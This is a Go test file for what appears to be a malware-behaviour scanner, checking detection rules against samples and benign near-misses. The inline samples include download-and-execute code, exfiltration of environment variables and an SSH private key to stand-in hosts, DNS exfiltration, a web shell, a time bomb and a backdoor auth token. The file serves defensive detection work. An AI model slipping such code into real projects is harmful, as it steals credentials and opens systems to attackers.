package gobehavior

import (
	"strings"
	"testing"

	"github.com/doorman-sec/doorman/analyzer"
	"github.com/doorman-sec/doorman/analyzer/analyzertest"
	"github.com/doorman-sec/doorman/analyzer/pkgmeta"
	"github.com/doorman-sec/doorman/finding"
)

func scan(t *testing.T, files map[string]string) *finding.Report {
	t.Helper()
	return analyzertest.Scan(t, []*analyzer.Analyzer{pkgmeta.Analyzer, Analyzer}, files)
}

// Inert re-creations: example.com, 192.0.2.x, *.invalid, harmless commands.
var positives = map[string]string{
	"dlexec/update.go": `package dlexec
import ("io"; "net/http"; "os"; "os/exec")
func Update() error {
	resp, err := http.Get("http://192.0.2.10/agent")
	if err != nil { return err }
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	os.WriteFile("/tmp/.agent", body, 0o755)
	os.Chmod("/tmp/.agent", 0o755)
	return exec.Command("/tmp/.agent").Run()
}`,
	"initexfil/init.go": `package initexfil
import ("bytes"; "net/http"; "os"; "strings")
func init() {
	env := strings.Join(os.Environ(), "\n")
	http.Post("https://collector.example.com/e", "text/plain", bytes.NewBufferString(env))
}`,
	"sshsteal/keys.go": `package sshsteal
import ("net"; "os"; "path/filepath")
func Sync() {
	home, _ := os.UserHomeDir()
	key, _ := os.ReadFile(filepath.Join(home, ".ssh", "id_rsa"))
	conn, _ := net.Dial("tcp", "192.0.2.44:443")
	conn.Write(key)
}`,
	"dnsexfil/dns.go": `package dnsexfil
import ("encoding/hex"; "net"; "os")
func Ping() {
	h, _ := os.Hostname()
	net.LookupHost(hex.EncodeToString([]byte(h)) + ".t.example.invalid")
}`,
	"webshell/handler.go": `package webshell
import ("net/http"; "os/exec")
func Debug(w http.ResponseWriter, r *http.Request) {
	cmd := r.URL.Query().Get("c")
	out, _ := exec.Command("sh", "-c", cmd).CombinedOutput()
	w.Write(out)
}`,
	"obf/run.go": `package obf
import ("encoding/base64"; "os/exec")
func Start() {
	p, _ := base64.StdEncoding.DecodeString("ZWNobyBoZWxsbw==")
	exec.Command("sh", "-c", string(p)).Start()
}`,
	"bomb/cleanup.go": `package bomb
import ("os"; "time")
func Check() {
	if time.Now().After(time.Date(2031, 1, 1, 0, 0, 0, 0, time.UTC)) {
		os.RemoveAll("/var/lib/app")
	}
}`,
	"magic/auth.go": `package magic
import "net/http"
func Auth(next http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("X-Debug-Token") == "c0ffee-b4ckd00r" {
			next.ServeHTTP(w, r)
			return
		}
		if !validSession(r) { http.Error(w, "forbidden", 403); return }
		next.ServeHTTP(w, r)
	})
}`,
	"initnet/init.go": `package initnet
import "net/http"
func init() { http.Get("https://telemetry.example.com/ping") }`,
}

func TestPositives(t *testing.T) {
	rep := scan(t, positives)
	want := []struct {
		rule, path string
		sev        finding.Severity
	}{
		{"DM-GO-001", "dlexec/update.go", finding.High},
		{"DM-GO-003", "initexfil/init.go", finding.Critical},
		{"DM-GO-003", "sshsteal/keys.go", finding.High},
		{"DM-GO-003", "dnsexfil/dns.go", finding.Medium},
		{"DM-GO-002", "webshell/handler.go", finding.Critical},
		{"DM-GO-004", "obf/run.go", finding.High},
		{"DM-GO-005", "bomb/cleanup.go", finding.High},
		{"DM-GO-006", "magic/auth.go", finding.High},
		{"DM-GO-007", "initnet/init.go", finding.Medium},
	}
	for _, w := range want {
		got := analyzertest.Find(rep, w.rule, w.path)
		if len(got) != 1 {
			t.Errorf("%s in %s: %d findings, want 1; all: %v", w.rule, w.path, len(got), summaryOf(rep))
			continue
		}
		if got[0].Severity != w.sev || got[0].Location.Line == 0 {
			t.Errorf("%s in %s: %s line %d, want %s: %s", w.rule, w.path, got[0].Severity, got[0].Location.Line, w.sev, got[0].Message)
		}
	}
	if len(rep.Findings) != len(want) {
		t.Errorf("%d findings, want %d: %v", len(rep.Findings), len(want), summaryOf(rep))
	}
	for _, f := range rep.Findings {
		if strings.Contains(f.Message, "c0ffee-b4ckd00r") {
			t.Errorf("magic value not masked: %s", f.Message)
		}
	}
}

func summaryOf(r *finding.Report) []string {
	var out []string
	for _, f := range r.Findings {
		out = append(out, f.Rule+" "+f.Severity.String()+" "+f.Location.Path+": "+f.Message)
	}
	return out
}

// Everyday Go that looks like the above.
func TestNearMisses(t *testing.T) {
	rep := scan(t, map[string]string{
		"verified/install.go": `package verified
import ("crypto/sha256"; "encoding/hex"; "errors"; "io"; "net/http"; "os"; "os/exec")
const want = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
func Install() error {
	resp, err := http.Get("https://dl.example.com/tool")
	if err != nil { return err }
	body, _ := io.ReadAll(resp.Body)
	sum := sha256.Sum256(body)
	if hex.EncodeToString(sum[:]) != want { return errors.New("checksum mismatch") }
	os.WriteFile("/tmp/tool", body, 0o755)
	return exec.Command("/tmp/tool", "--version").Run()
}`,
		"client/api.go": `package client
import ("net/http"; "os")
func New() *http.Request {
	req, _ := http.NewRequest("GET", "https://api.example.com/v1/user", nil)
	req.Header.Set("Authorization", "token "+os.Getenv("GITHUB_TOKEN"))
	req.Header.Set("User-Agent", "tool/"+os.Getenv("VERSION"))
	return req
}`,
		"cli/root.go": `package cli
import ("os"; "os/exec")
func Editor(path string) error {
	ed := os.Getenv("EDITOR")
	if ed == "" { ed = "vi" }
	return exec.Command(ed, path).Run()
}`,
		"git/fetch.go": `package git
import ("os/exec")
func Fetch(remote, dir string) error {
	return exec.Command("git", "-C", dir, "fetch", remote).Run()
}`,
		"telemetry/ping.go": `package telemetry
import ("bytes"; "encoding/json"; "net/http"; "runtime")
func Send(version string) {
	b, _ := json.Marshal(map[string]string{"os": runtime.GOOS, "version": version})
	http.Post("https://telemetry.example.com/v1", "application/json", bytes.NewReader(b))
}`,
		"web/handler.go": `package web
import ("net/http"; "os/exec")
func Handle(w http.ResponseWriter, r *http.Request) {
	if r.Header.Get("Upgrade") == "websocket" { serveWS(w, r); return }
	if r.Method == "POST" && r.Header.Get("Content-Type") == "application/json" { next(w, r) }
	if r.URL.Query().Get("format") == "yaml" { w.Write(yaml()) }
	out, _ := exec.Command("uptime").Output()
	w.Write(out)
}`,
		"cert/expiry.go": `package cert
import ("crypto/x509"; "os"; "time")
func Prune(c *x509.Certificate, p string) {
	if time.Now().After(c.NotAfter) { os.Remove(p) }
	cutoff := time.Now().Add(-30 * 24 * time.Hour)
	if fi, _ := os.Stat(p); fi.ModTime().Before(cutoff) { os.Remove(p) }
}`,
		"host/fqdn.go": `package host
import ("net"; "os")
func FQDN() string {
	h, _ := os.Hostname()
	addrs, _ := net.LookupHost(h)
	if len(addrs) > 0 { return h }
	return ""
}`,
		"plug/load.go": `package plug
import ("path/filepath"; "plugin")
func Load(dir string) { plugin.Open(filepath.Join(dir, "x.so")) }`,
	})
	for _, f := range analyzertest.AtLeast(rep, finding.Medium) {
		t.Errorf("near miss reported: %s %s %s: %s [%s]", f.Rule, f.Severity, f.Location.Path, f.Message, f.Evidence)
	}
}

func TestInTestFileIsLow(t *testing.T) {
	rep := scan(t, map[string]string{"dlexec/update_test.go": positives["dlexec/update.go"]})
	if len(rep.Findings) != 1 || rep.Findings[0].Severity != finding.Low {
		t.Errorf("want one low finding: %v", summaryOf(rep))
	}
}

// The go command never compiles testdata: the same code there is not read.
func TestTestdataIsSkipped(t *testing.T) {
	rep := scan(t, map[string]string{"x/testdata/update.go": positives["dlexec/update.go"]})
	if len(rep.Findings) != 0 {
		t.Errorf("testdata read: %v", summaryOf(rep))
	}
}
